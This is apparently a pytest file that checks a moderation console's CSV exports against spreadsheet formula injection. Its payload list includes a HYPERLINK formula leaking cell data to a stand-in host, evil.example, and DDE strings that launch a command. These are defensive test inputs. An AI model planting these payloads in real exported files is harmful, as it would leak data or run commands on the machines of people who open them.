"""Every CSV export neutralises spreadsheet formulas (OWASP CSV injection) and keeps numbers numbers.

One guard (``modconsole.csvsafe``) behind every export: the outbox journal, a chart's series and the
monthly report. Each formula prefix is tried through each of them, plus the DDE payload whose second
character is a digit (``+1+cmd|' /C calc'!A0``), which the old guard let through.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import text

from modconsole.analytics import MonthlyReport, series_csv
from modconsole.analytics.export import ReportLine
from modconsole.analytics.kpis import KpiResult
from modconsole.analytics.periods import Bucket, month_period
from modconsole.cache.db import Cache
from modconsole.csvsafe import SafeDictWriter, SafeWriter, cell
from modconsole.demo.server import DemoServer
from modconsole.services.moderation import ModerationService
from tests.core.outbox_support import opened_service

PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "plus": "+SUM(1,2)",
    "minus": "-SUM(1,2)",
    "at": "@SUM(1,2)",
    "tab": "\t=1+2",
    "carriage_return": "\r=1+2",
    "plus_then_digit_dde": "+1+cmd|' /C calc'!A0",
    "minus_then_digit": "-2+3+cmd|' /C calc'!A0",
    "equals_then_digit": "=1+2",
    "at_then_digit": "@1",
}
CASES = pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))


def _rows(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


# ---------------------------------------------------------------- the guard itself


@CASES
def test_guard_quotes_formula_text(payload: str) -> None:
    assert cell(payload) == "'" + payload


@pytest.mark.parametrize("safe", ["", "plain", "a=b", " =1", "'=1", "1+1", "3.5", "ünïcode"])
def test_guard_leaves_other_text_alone(safe: str) -> None:
    assert cell(safe) == safe


@pytest.mark.parametrize("number", [-3.5, -2, 0, 7, 1e-9, Decimal("-1.25"), True])
def test_guard_keeps_numbers_numbers(number: object) -> None:
    assert cell(number) is number
    buf = io.StringIO()
    SafeWriter(buf).writerow([number])
    assert not buf.getvalue().startswith("'")


def test_guard_decides_by_type_not_by_text() -> None:
    buf = io.StringIO()
    SafeWriter(buf, lineterminator="\n").writerow([-3.5, "-3.5", None, date(2026, 1, 2)])
    assert buf.getvalue() == "-3.5,'-3.5,,2026-01-02\n"


def test_dict_writer_guards_header_and_rejects_unknown_fields() -> None:
    buf = io.StringIO()
    w = SafeDictWriter(buf, ["=a", "b"], lineterminator="\n")
    w.writeheader()
    w.writerow({"=a": -1, "b": "@x"})
    assert buf.getvalue() == "'=a,b\n-1,'@x\n"
    with pytest.raises(ValueError, match="not in the header"):
        w.writerow({"c": 1})


# ---------------------------------------------------------------- the outbox journal


@pytest.fixture
def service(demo_server: DemoServer, tmp_path: Path) -> Iterator[tuple[ModerationService, Cache]]:
    with opened_service(tmp_path, demo_server) as (svc, cache, _client):
        yield svc, cache


@CASES
def test_journal_export_neutralises(
    payload: str, service: tuple[ModerationService, Cache], tmp_path: Path
) -> None:
    svc, cache = service
    q = svc.award_badge("Superuser", "wen_meyer", note=payload)
    if payload != payload.strip():
        # the console strips a note's whitespace; a note stored with a leading tab or CR (an older
        # version, another tool writing the cache) must still export safely
        assert svc.get(q.op_uuid).note == payload.strip()
        with cache.write() as conn:
            conn.execute(
                text(
                    "UPDATE outbox SET payload_json = json_set(payload_json, '$.note', :n) WHERE op_uuid = :u"
                ),
                {"n": payload, "u": q.op_uuid},
            )
    assert svc.get(q.op_uuid).note == payload
    out = tmp_path / "journal.csv"
    assert svc.export_audit_csv(out) == 1
    with out.open(encoding="utf-8-sig", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["note"] == "'" + payload
    assert row["attempts"] == "0"  # a number column stays a number


# ---------------------------------------------------------------- a chart's series


def _result(series: dict[str, tuple[float | None, ...]]) -> KpiResult:
    month = month_period("2026-10")
    bucket = Bucket("2026-10", date(2026, 10, 1), date(2026, 11, 1))
    return KpiResult(month, "month", (bucket,), series, {}, {}, 0)


@CASES
def test_series_export_neutralises(payload: str) -> None:
    data = series_csv(_result({payload: (-3.5,), "trend": (-2.0,)}), [payload, "trend"])
    header, values = _rows(data)
    assert header[6:] == ["'" + payload, "trend", "synced"]
    assert values[6:] == ["-3.5", "-2", "complete"]


def test_series_export_keeps_negative_numbers_numbers() -> None:
    data = series_csv(_result({"delta": (-3.5,), "n": (-2.0,), "none": (None,)}), ["delta", "n", "none"])
    assert data.splitlines()[1].endswith(",-3.5,-2,,complete")  # unquoted: a spreadsheet reads numbers


# ---------------------------------------------------------------- the monthly report


@CASES
def test_monthly_report_export_neutralises(payload: str) -> None:
    line = ReportLine("questions_asked", payload, "growth", -3.0, -1.5, -3.0, frozen=True)
    report = MonthlyReport("2026-10", (line,), "2026-11-01T13:00:00+00:00")
    header, row = _rows(report.to_csv())
    assert header[:5] == ["month", "group", "kpi", "title", "value"]
    assert row[3] == "'" + payload
    assert row[4:6] == ["-3", "-1.5"] and "'" not in report.to_csv().splitlines()[-1].split(",", 4)[-1]


def test_line_breaks_inside_a_cell_are_quoted_whatever_the_line_terminator() -> None:
    buf = io.StringIO()
    w = SafeWriter(buf, lineterminator="\n")
    w.writerow(["a\rb", -1, None, "c"])
    w.writerow(["x", 2])
    assert buf.getvalue() == '"a\rb",-1,"","c"\nx,2\n'
    assert _rows(buf.getvalue()) == [["a\rb", "-1", "", "c"], ["x", "2"]]
